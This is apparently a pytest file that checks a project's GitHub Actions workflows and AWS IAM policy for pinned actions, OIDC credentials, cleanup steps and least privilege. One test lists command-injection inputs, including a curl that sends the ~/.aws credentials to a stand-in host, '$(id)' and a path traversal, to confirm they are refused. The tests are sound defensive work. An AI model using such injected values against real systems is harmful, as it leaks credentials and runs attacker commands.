"""The GitHub workflows and the IAM policy, checked as data.

- Every workflow parses; every job that provisions (pytest with --instance-type, or a per-arch tox env)
  ends with `perfci reap --run-id ... --yes` under `if: always()`, after fresh credentials, for the
  same run id the suites tagged their resources with.
- perf.yml takes AWS credentials by OIDC only (`id-token: write`, a role, no keys).
- iam/perfci-policy.json grants every AWS call the code makes, derived from the source by regex and
  botocore's service models, so adding a boto3 call without a policy line fails here; and nothing more.
"""

from __future__ import annotations

import fnmatch
import json
import os
import re
import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path
from typing import Any

import botocore.session
import pytest
import yaml
from botocore import xform_name

from pytest_perfci.settings import RUN_ID_RE

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = ROOT / ".github" / "workflows"
POLICY = ROOT / "iam" / "perfci-policy.json"
SOURCES = sorted([*(ROOT / "pytest_perfci").rglob("*.py"), *(ROOT / "suites").rglob("*.py")])


def load(name: str) -> dict[str, Any]:
    doc = yaml.safe_load((WORKFLOWS / name).read_text())
    assert isinstance(doc, dict), name
    if True in doc:  # YAML 1.1 reads the key `on` as the boolean true
        doc["on"] = doc.pop(True)
    return doc


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return list(job.get("steps", []))


def provisions(step: dict[str, Any]) -> bool:
    run = str(step.get("run", ""))
    return ("pytest" in run and "--instance-type" in run) or bool(re.search(r"tox\b.*-e\s*\S*(x86_64|arm64)", run))


def always(step: dict[str, Any]) -> bool:
    return "always()" in str(step.get("if", ""))


def uses(step: dict[str, Any], action: str) -> bool:
    return str(step.get("uses", "")).startswith(action + "@")


@pytest.mark.parametrize("name", ["ci.yml", "perf.yml", "reaper.yml"])
def test_workflow_parses_and_pins_actions(name: str) -> None:
    doc = load(name)
    assert doc["name"] and doc["on"] and doc["jobs"]
    assert doc.get("permissions") == {"contents": "read"}, "least privilege by default"
    for job_id, job in doc["jobs"].items():
        assert job.get("runs-on"), job_id
        for step in steps(job):
            assert "run" in step or "uses" in step, (job_id, step)
            if "uses" in step:
                # pinned by commit SHA: a moved tag cannot change what runs with the role's credentials
                assert re.match(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$", step["uses"]), step["uses"]
    # and each pin names the release it was taken from, so an update is a readable diff
    for line in (WORKFLOWS / name).read_text().splitlines():
        if "uses:" in line:
            assert re.search(r"@[0-9a-f]{40}\s+# v\d+\.\d+\.\d+$", line), line


def _provisioning_jobs() -> list[tuple[str, str, dict[str, Any]]]:
    found = []
    for path in sorted(WORKFLOWS.glob("*.yml")):
        for job_id, job in load(path.name)["jobs"].items():
            if any(provisions(s) for s in steps(job)):
                found.append((path.name, job_id, job))
    return found


def test_there_is_a_provisioning_job() -> None:
    assert [(f, j) for f, j, _ in _provisioning_jobs()] == [("perf.yml", "perf")]


@pytest.mark.parametrize(("workflow", "job_id", "job"), _provisioning_jobs(), ids=lambda v: v if isinstance(v, str) else "")
def test_every_provisioning_job_reaps_its_run_on_always(workflow: str, job_id: str, job: dict[str, Any]) -> None:
    all_steps = steps(job)
    last_provision = max(i for i, s in enumerate(all_steps) if provisions(s))
    reaps = [i for i, s in enumerate(all_steps) if "perfci reap" in str(s.get("run", ""))]
    assert reaps, f"{workflow}:{job_id} provisions but never reaps"
    for i in reaps:
        step = all_steps[i]
        assert i > last_provision and always(step), f"{workflow}:{job_id} reap step must follow the suites, if: always()"
        assert re.search(r"perfci reap --run-id \"?\$PERFCI_RUN_ID\"? .*--yes", step["run"]), step["run"]
    # the suites tag with PERFCI_RUN_ID (settings read it), and the reaper deletes by the same value
    assert "PERFCI_RUN_ID" in job.get("env", {}), "the job must fix the run id the reaper deletes by"
    # credentials for the reaper are fetched again under always(): a long run may outlive the first ones
    creds = [i for i, s in enumerate(all_steps) if uses(s, "aws-actions/configure-aws-credentials")]
    assert any(last_provision < i < min(reaps) and always(all_steps[i]) for i in creds)


def test_run_id_template_yields_a_valid_run_id() -> None:
    template = load("perf.yml")["jobs"]["perf"]["env"]["PERFCI_RUN_ID"]
    values = {"github.run_id": "11223344556", "github.run_attempt": "2", "strategy.job-index": "13"}
    run_id = re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda m: values[m.group(1)], template)
    assert RUN_ID_RE.match(run_id), run_id


def test_perf_uses_oidc_role_and_no_stored_keys() -> None:
    doc = load("perf.yml")
    for job_id, job in doc["jobs"].items():
        cred_steps = [s for s in steps(job) if uses(s, "aws-actions/configure-aws-credentials")]
        if not cred_steps:
            continue
        assert job.get("permissions", {}).get("id-token") == "write", f"{job_id} needs id-token: write for OIDC"
        for s in cred_steps:
            assert s["with"].get("role-to-assume"), job_id
            assert not {"aws-access-key-id", "aws-secret-access-key"} & set(s["with"]), "no stored keys"
    assert "aws-access-key-id" not in (WORKFLOWS / "perf.yml").read_text()


def test_perf_matrix_inputs_schedule_allure_and_summary() -> None:
    doc = load("perf.yml")
    inputs = doc["on"]["workflow_dispatch"]["inputs"]
    assert {"suites", "x86_64_types", "arm64_types"} <= set(inputs)
    (cron,) = [c["cron"] for c in doc["on"]["schedule"]]
    _minute, _hour, dom, month, dow = cron.split()
    assert dom == "*" and month == "*" and dow.isdigit(), f"{cron} is not weekly"
    perf = doc["jobs"]["perf"]
    assert perf["strategy"]["matrix"] == "${{ fromJSON(needs.types.outputs.matrix) }}"
    assert perf["strategy"]["fail-fast"] is False
    suites = next(s for s in steps(perf) if provisions(s))
    assert perf["env"]["INSTANCE_TYPE"] == "${{ matrix.instance_type }}"
    assert '--instance-type "$INSTANCE_TYPE"' in suites["run"] and "--alluredir allure-results" in suites["run"]
    plan = [s for s in steps(perf) if "perfci plan" in str(s.get("run", ""))]
    assert plan and steps(perf).index(plan[0]) < steps(perf).index(suites), "plan (quota check) before spending"
    assert any(uses(s, "actions/upload-artifact") and s["with"]["path"] == "allure-results" and always(s)
               for s in steps(perf))
    report = doc["jobs"]["report"]
    assert report["if"] == "always()" and report["permissions"]["pages"] == "write"
    text = json.dumps(report)
    assert "allure-commandline" in text and "generate" in text and "actions/deploy-pages@" in text
    assert any("perfci matrix" in str(s.get("run", "")) and "--step-summary" in s["run"] for s in steps(report))



def test_weekly_runs_are_judged_against_their_past() -> None:
    """One results prefix for upload and history, and Allure's history/ carried from the last report."""
    doc = load("perf.yml")
    assert doc["env"]["PERFCI_RESULTS_S3"] == "${{ vars.PERFCI_RESULTS_S3 }}"
    suites = next(s for s in steps(doc["jobs"]["perf"]) if provisions(s))
    assert '--perfci-s3 "$PERFCI_RESULTS_S3" --perfci-history "$PERFCI_RESULTS_S3"' in suites["run"]
    report = steps(doc["jobs"]["report"])
    carry = next(i for i, s in enumerate(report) if "allure-results/history" in str(s.get("run", "")))
    generate = next(i for i, s in enumerate(report) if "allure-commandline" in str(s.get("run", "")))
    assert carry < generate and "history-trend.json" in report[carry]["run"]


def _run_types_job(**env: str) -> tuple[subprocess.CompletedProcess[str], str]:
    """Run the types job's own Python the way Actions would: inputs in the environment."""
    step = load("perf.yml")["jobs"]["types"]["steps"][0]
    with tempfile.NamedTemporaryFile("r", suffix=".out") as out:
        full = {**os.environ, "X86_64": "m7i.large", "ARM64": "", "SUITES": "suites/pmc", "PERFCI_TTL": "3h",
                "GITHUB_OUTPUT": out.name, **env}
        proc = subprocess.run([sys.executable, "-c", step["run"]], env=full, capture_output=True, text=True, check=False,
                              timeout=30)
        return proc, out.read()


def test_perf_types_job_builds_the_matrix_per_architecture() -> None:
    proc, output = _run_types_job(X86_64="m7i.metal-24xl,m7i.2xlarge", ARM64="c7g.metal,",
                                  SUITES="suites/pmc suites/resctrl/test_resctrl.py::test_x", PERFCI_TTL="1h30m")
    assert proc.returncode == 0, proc.stderr
    key, _, value = output.strip().partition("=")
    assert key == "matrix" and json.loads(value)["include"] == [
        {"arch": "x86_64", "instance_type": "m7i.metal-24xl"}, {"arch": "x86_64", "instance_type": "m7i.2xlarge"},
        {"arch": "arm64", "instance_type": "c7g.metal"}]


def test_perf_types_job_adds_gpu_entries_that_run_the_gpu_suite() -> None:
    """The `cuda` tox env's counterpart: GPU types (either architecture) run suites/gpu, the others SUITES."""
    proc, output = _run_types_job(X86_64="m7i.large", ARM64="", CUDA="g5.xlarge, g5g.xlarge,")
    assert proc.returncode == 0, proc.stderr
    include = json.loads(output.strip().partition("=")[2])["include"]
    assert include == [{"arch": "x86_64", "instance_type": "m7i.large"},
                       {"arch": "cuda", "instance_type": "g5.xlarge", "suites": "suites/gpu"},
                       {"arch": "cuda", "instance_type": "g5g.xlarge", "suites": "suites/gpu"}]
    doc = load("perf.yml")
    assert doc["on"]["workflow_dispatch"]["inputs"]["cuda_types"]["default"] == "g5.xlarge,g5g.xlarge"
    perf = doc["jobs"]["perf"]
    assert perf["env"]["MATRIX_SUITES"] == "${{ matrix.suites }}"
    suites = next(s for s in steps(perf) if provisions(s))
    assert 'read -ra suites <<< "${MATRIX_SUITES:-$SUITES}"' in suites["run"]
    proc, output = _run_types_job(CUDA="g5.xlarge;id")
    assert proc.returncode != 0 and output == ""
    assert proc.stderr.strip().splitlines()[-1] == ("perf.yml input cuda_types: 'g5.xlarge;id' is not allowed; "
                                                    "expected comma-separated FAMILY.SIZE names such as g5.xlarge")


@pytest.mark.parametrize(("name", "value"), [
    ("X86_64", 'm7i.large"; curl -d @$HOME/.aws http://x #'),
    ("ARM64", "c7g.large,$(id)"),
    ("SUITES", "suites/pmc; env"),
    ("SUITES", "suites/../../etc"),
    ("SUITES", "-p no:perfci"),
    ("PERFCI_TTL", "3h --perfci-keep"),
])
def test_perf_types_job_refuses_injected_inputs(name: str, value: str) -> None:
    """The inputs reach scripts through env only, and the types job refuses them before any credentials."""
    proc, output = _run_types_job(**{name: value})
    assert proc.returncode != 0 and output == ""
    (line,) = proc.stderr.strip().splitlines()
    assert line.startswith("perf.yml input ") and "is not allowed; expected" in line, line


@pytest.mark.parametrize("name", ["ci.yml", "perf.yml", "reaper.yml"])
def test_no_expression_is_expanded_inside_a_script(name: str) -> None:
    """`${{ }}` in `run:` is text substitution into a shell script: an input could become a command."""
    for job_id, job in load(name)["jobs"].items():
        for step in steps(job):
            assert "${{" not in str(step.get("run", "")), (job_id, step.get("name"))


def test_role_is_trusted_for_the_protected_environment_only() -> None:
    trust = json.loads((ROOT / "iam" / "perfci-trust-policy.json").read_text())
    (statement,) = trust["Statement"]
    sub = statement["Condition"]["StringEquals"]["token.actions.githubusercontent.com:sub"]
    assert sub.endswith(":environment:aws-perf") and "*" not in sub
    for name in ("perf.yml", "reaper.yml"):
        for job_id, job in load(name)["jobs"].items():
            if any(uses(s, "aws-actions/configure-aws-credentials") for s in steps(job)):
                assert job.get("environment") == "aws-perf", f"{name}:{job_id} assumes the role outside aws-perf"


def test_no_upload_carries_the_private_keys() -> None:
    """The results directory holds <results>/.keys/ (the run's SSH keys): it is never an artifact."""
    for name in ("perf.yml", "reaper.yml", "ci.yml"):
        for job in load(name)["jobs"].values():
            for step in steps(job):
                if not (uses(step, "actions/upload-artifact") or uses(step, "actions/upload-pages-artifact")):
                    continue
                paths = str(step["with"]["path"]).split()
                assert not any(".keys" in p and not p.startswith("!") for p in paths), step
                assert step["with"].get("include-hidden-files", False) is False, step
                if "perfci-results" in paths:
                    assert "!perfci-results/.keys" in paths, step


def test_reaper_is_scheduled_and_reaps_expired() -> None:
    doc = load("reaper.yml")
    assert doc["on"]["schedule"] and "workflow_dispatch" in doc["on"]
    runs = [str(s.get("run", "")) for job in doc["jobs"].values() for s in steps(job)]
    assert any("perfci reap --expired --yes" in r for r in runs)
    job = doc["jobs"]["reap"]
    assert job["permissions"]["id-token"] == "write"


def test_ci_runs_the_project_tests_on_push_and_pull_request() -> None:
    doc = load("ci.yml")
    assert {"push", "pull_request"} <= set(doc["on"])
    assert any(".ci/run" in str(s.get("run", "")) for job in doc["jobs"].values() for s in steps(job))


# --- IAM policy -----------------------------------------------------------------------------------

# boto3 methods that are not API operations, and the operations they call.
INJECTED = {"upload_file": ("s3", "PutObject"), "upload_fileobj": ("s3", "PutObject"),
            "download_file": ("s3", "GetObject"), "download_fileobj": ("s3", "GetObject")}
# API operations whose IAM action has another name.
IAM_NAME = {"s3:ListObjectsV2": "s3:ListBucket", "s3:ListObjects": "s3:ListBucket", "s3:HeadObject": "s3:GetObject"}
WAITER_SERVICES = {"ec2", "s3", "ssm"}  # services of ours that botocore ships waiters for
CLIENT_RE = re.compile(r"\bclient\((?:[^()]|\([^()]*\))*?\"([a-z0-9-]+)\"")


@cache
def _model(service: str) -> Any:
    return botocore.session.get_session().get_service_model(service)


def used_services() -> set[str]:
    return {m for path in SOURCES for m in CLIENT_RE.findall(path.read_text())}


def used_actions() -> dict[str, list[str]]:
    """IAM action -> where in the source it is called."""
    session = botocore.session.get_session()
    services = used_services()
    ops: dict[str, list[tuple[str, str]]] = {}
    for service in services:
        for op in _model(service).operation_names:
            ops.setdefault(xform_name(op), []).append((service, op))
    found: dict[str, list[str]] = {}

    def add(service: str, op: str, where: str) -> None:
        meta = _model(service).metadata
        action = f"{meta.get('signingName') or meta['endpointPrefix']}:{op}"
        found.setdefault(IAM_NAME.get(action, action), []).append(where)

    for path in SOURCES:
        text = path.read_text()
        rel = path.relative_to(ROOT)
        # a call `.op(`, or the bound method handed to a retry policy: `policy(self.ec2.op, **kw)`
        for method in set(re.findall(r"\.([a-z][a-z0-9_]+)(?:\(|\s*,)", text)):
            for service, op in ops.get(method, []):
                add(service, op, f"{rel}: .{method}(")
            if method in INJECTED and INJECTED[method][0] in services:
                add(*INJECTED[method], f"{rel}: .{method}(")
        for name in set(re.findall(r"get_paginator\(\s*\"([a-z0-9_]+)\"", text)):
            for service, op in ops.get(name, []):
                add(service, op, f"{rel}: paginator {name}")
        for name in set(re.findall(r"get_waiter\(\s*\"([a-z0-9_]+)\"", text)):
            for service in services & WAITER_SERVICES:
                model = session.get_waiter_model(service)
                waiter_name = "".join(p.capitalize() for p in name.split("_"))
                if waiter_name in model.waiter_names:
                    add(service, model.get_waiter(waiter_name).operation, f"{rel}: waiter {name}")
    return found


def granted() -> list[str]:
    doc = json.loads(POLICY.read_text())
    out = []
    for st in doc["Statement"]:
        assert st["Effect"] == "Allow"
        actions = st["Action"] if isinstance(st["Action"], list) else [st["Action"]]
        out.extend(actions)
    return out


def test_policy_parses_and_has_no_wildcard_actions() -> None:
    doc = json.loads(POLICY.read_text())
    assert doc["Version"] == "2012-10-17"
    sids = [st["Sid"] for st in doc["Statement"]]
    assert len(sids) == len(set(sids))
    for action in granted():
        assert "*" not in action, f"{action}: least privilege means naming each action"


def test_the_source_derivation_finds_the_known_calls() -> None:
    """Guard the regexes themselves: if they found nothing the coverage test below would be vacuous."""
    assert {"ec2", "ssm", "s3", "service-quotas", "pricing"} <= used_services()
    actions = used_actions()
    for action in ("ec2:RunInstances", "ec2:TerminateInstances", "ec2:DescribeInstanceTypes", "ec2:CreateTags",
                   "ssm:GetParameter", "s3:PutObject", "servicequotas:GetServiceQuota", "pricing:GetProducts"):
        assert action in actions, action
    assert any("waiter instance_running" in w for w in actions["ec2:DescribeInstances"])


def test_policy_covers_every_call_the_code_makes() -> None:
    allowed = granted()
    missing = {a: w for a, w in used_actions().items() if not any(fnmatch.fnmatchcase(a, g) for g in allowed)}
    assert not missing, "iam/perfci-policy.json lacks: " + "; ".join(f"{a} ({w[0]})" for a, w in sorted(missing.items()))


def test_policy_grants_nothing_the_code_does_not_call() -> None:
    used = set(used_actions())
    assert sorted(set(granted()) - used) == []


def test_destructive_and_create_actions_are_conditioned_on_perfci_tags() -> None:
    doc = json.loads(POLICY.read_text())
    for st in doc["Statement"]:
        actions = st["Action"] if isinstance(st["Action"], list) else [st["Action"]]
        cond = json.dumps(st.get("Condition", {}))
        if any(a.startswith(("ec2:Terminate", "ec2:Delete", "ec2:Authorize")) for a in actions):
            assert "ec2:ResourceTag/perfci:run-id" in cond, st["Sid"]
        if any(a in ("ec2:CreateKeyPair", "ec2:CreateSecurityGroup") for a in actions) and \
                any(":key-pair/" in r or ":security-group/" in r for r in st["Resource"]):
            assert "aws:RequestTag/perfci:run-id" in cond, st["Sid"]
        if "ec2:RunInstances" in actions and any(":instance/" in r for r in st["Resource"]):
            assert "aws:RequestTag/perfci:run-id" in cond, st["Sid"]
        if "ec2:CreateTags" in actions:
            assert "ec2:CreateAction" in cond or "ec2:ResourceTag/perfci:run-id" in cond, st["Sid"]
